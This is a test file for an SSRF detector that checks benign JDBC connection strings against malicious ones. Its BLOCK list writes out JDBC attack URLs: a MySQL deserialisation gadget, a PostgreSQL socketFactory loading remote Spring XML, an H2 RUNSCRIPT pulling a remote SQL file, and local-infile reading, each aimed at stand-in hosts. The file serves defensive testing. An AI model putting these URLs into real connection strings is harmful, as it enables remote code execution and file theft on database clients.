import { strictEqual } from "node:assert/strict";
import { ssrfDetector, SsrfOptionsSchema } from "./ssrf.ts";
import { plainJdbcUrl } from "./_ssrf_jdbc.ts";

const OPTS = SsrfOptionsSchema.parse({});
const blocked = (key: string, value: string, tool = "run_code"): boolean =>
  ssrfDetector.scan(value, { stage: "input", path: `$.${key}`, key, tool }, OPTS)
    .some((f) => f.severity !== "low");

// Honest: code and configuration naming the database a program connects to.
const PASS: [string, string][] = [
  [
    "code",
    'Connection c = DriverManager.getConnection("jdbc:mysql://reports-db.corp.lan:3306/finance", user, pw);',
  ],
  [
    "content",
    "spring:\n  datasource:\n    url: jdbc:sqlserver://sql01.intra:1433;databaseName=crm;encrypt=true\n",
  ],
  [
    "code",
    'df = spark.read.jdbc("jdbc:oracle:thin:@//10.20.4.7:1521/ORCLPDB1", "hr.staff", properties=p)',
  ],
  ["notes", "Point DBeaver at jdbc:redshift://analytics.example-co.internal:5439/dev"],
];
// Attacks of the same shape: driver options that deserialise, read files or run scripts.
const BLOCK: [string, string][] = [
  [
    "code",
    'DriverManager.getConnection("jdbc:mysql://198.51.100.4:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor")',
  ],
  [
    "content",
    "datasource:\n  url: jdbc:postgresql://db:5432/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://198.51.100.4/p.xml\n",
  ],
  [
    "code",
    "conn = jaydebeapi.connect('org.h2.Driver', \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://198.51.100.4/p.sql'\")",
  ],
  [
    "code",
    'getConnection("jdbc:mysql://203.0.113.8:3306/db?allowLoadLocalInfile=true&allowUrlInLocalInfile=true")',
  ],
];

Deno.test("a plain JDBC connection string in code or configuration is not a fetch", () => {
  for (const [k, v] of PASS) strictEqual(blocked(k, v), false, v);
});
Deno.test("JDBC driver tricks in code still count", () => {
  for (const [k, v] of BLOCK) strictEqual(blocked(k, v), true, v);
});
Deno.test("plainJdbcUrl() needs a server database and no driver trick", () => {
  strictEqual(plainJdbcUrl("jdbc:postgresql://db:5432/app"), true);
  strictEqual(plainJdbcUrl("jdbc:h2:tcp://db/~/x"), false);
  strictEqual(plainJdbcUrl("jdbc:mysql://db/x?statementInterceptors=a.B"), false);
});
